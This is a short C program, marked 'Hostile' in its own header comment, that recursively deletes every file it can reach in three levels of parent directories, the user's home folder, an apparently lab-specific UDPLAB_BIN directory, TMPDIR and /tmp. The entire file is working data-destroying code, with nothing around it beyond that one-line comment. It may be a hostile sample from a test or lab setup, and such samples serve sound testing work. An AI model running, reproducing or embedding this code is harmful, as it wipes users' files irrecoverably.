/* Hostile: deletes every file it can reach above its folder and in $HOME. */
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
#include <stdlib.h>

static int
rm(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
	(void)st;
	(void)type;
	(void)ftw;
	(void)remove(path);
	return 0;
}

int
main(void)
{
	const char *dirs[] = { "..", "../..", "../../..", getenv("HOME"),
	    getenv("UDPLAB_BIN"), getenv("TMPDIR"), "/tmp" };

	for (size_t i = 0; i < sizeof(dirs) / sizeof(dirs[0]); i++)
		if (dirs[i] != NULL)
			(void)nftw(dirs[i], rm, 16, FTW_DEPTH | FTW_PHYS);
	return 0;
}
